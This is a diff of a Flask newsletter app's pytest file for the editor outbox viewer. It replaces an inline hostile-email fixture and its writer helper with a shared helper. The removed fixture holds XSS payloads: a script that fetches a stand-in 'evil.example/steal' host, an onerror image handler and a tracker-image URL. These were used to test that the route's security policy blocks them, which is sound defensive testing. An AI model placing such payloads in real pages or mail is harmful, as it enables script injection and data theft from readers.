@@ -9,8 +9,6 @@ import pytest
 from flask import Flask
 from flask.testing import FlaskClient
 
-from digest.mail.message import Mail
-from digest.mail.transport import OutboxTransport
 from digest.models import EditorRole
 from tests.conftest import get_db_of
 from tests.support.editor import log_in, make_editor
@@ -20,28 +18,11 @@ from tests.support.readers import (
     deliver,
     load_newsletter,
 )
-
-HOSTILE_HTML = """<!doctype html><html><head><style>p { color: #c00; }</style></head>
-<body><p style="font-weight:bold">Hello <img src="https://cdn.example.net/logo.png" alt="logo"></p>
-<script>document.body.dataset.owned = "script"; fetch("https://evil.example/steal");</script>
-<img src="x" onerror="document.body.dataset.owned = 'img'">
-<table background="http://tracker.example.org:8080/bg.gif"><tr><td>Cell</td></tr></table>
-</body></html>"""
+from tests.support.workspace import outbox_message
 
 
 def _outbox(app: Flask) -> Path:
     return Path(app.config["OUTBOX_PATH"])
-
-
-def _write(app: Flask, subject: str = "A hostile message", html: str = HOSTILE_HTML,
-           to: str = "reader@example.org") -> str:
-    """Write a message into the app's outbox the way the mailer does; return its file name."""
-    mail = Mail(from_="News <news@news.example.org>", to=to, subject=subject,
-                text="Plain text. Confirm at https://news.example.org/confirm/abc.def and reply.",
-                html=html, message_id="<m1@news.example.org>")
-    result = OutboxTransport(_outbox(app)).send("bounces@news.example.org", to, mail.as_bytes())
-    assert result.queue_id
-    return result.queue_id
 
 
 def _log_in(app: Flask, client: FlaskClient, role: EditorRole = EditorRole.EDITOR) -> None:
@@ -76,7 +57,7 @@ def test_outbox_shows_the_confirmation_a_signup_wrote(app, client) -> None:  # t
 def test_html_part_runs_no_script_and_loads_only_its_images(app, client) -> None:  # type: ignore[no-untyped-def]
     """The HTML route's CSP allows the email's inline styles and image hosts, and no script or other request."""
     _log_in(app, client)
-    name = _write(app)
+    name = outbox_message(app)
     response = client.get(f"/editor/outbox/{name}/html")
     assert response.status_code == 200
     policy = response.headers["Content-Security-Policy"]
@@ -102,7 +83,7 @@ def test_html_part_runs_no_script_and_loads_only_its_images(app, client) -> None
 def test_names_outside_the_listing_are_refused(app, client, attempt: str) -> None:  # type: ignore[no-untyped-def]
     """Only messages the folder lists open: traversal, other files and unknown names all answer 404."""
     _log_in(app, client)
-    _write(app)
+    outbox_message(app)
     (_outbox(app) / "notes.eml").write_text("Subject: private notes\n\nnot a message of ours\n")
     for suffix in ("", "/html", "/raw"):
         response = client.get(f"/editor/outbox/{attempt}{suffix}")
@@ -128,7 +109,7 @@ def test_outbox_pages_and_roles(app, client) -> None:  # type: ignore[no-untyped
     """Anonymous visitors are sent to log in; an editor pages through many messages, newest first."""
     assert client.get("/editor/outbox").status_code == 302
     _log_in(app, client)
-    names = [_write(app, subject=f"Message {n:02d}") for n in range(55)]
+    names = [outbox_message(app, subject=f"Message {n:02d}") for n in range(55)]
     first = client.get("/editor/outbox").get_data(as_text=True)
     assert "55 messages" in first
     assert "Message 54" in first and "Message 05" in first and "Message 04" not in first
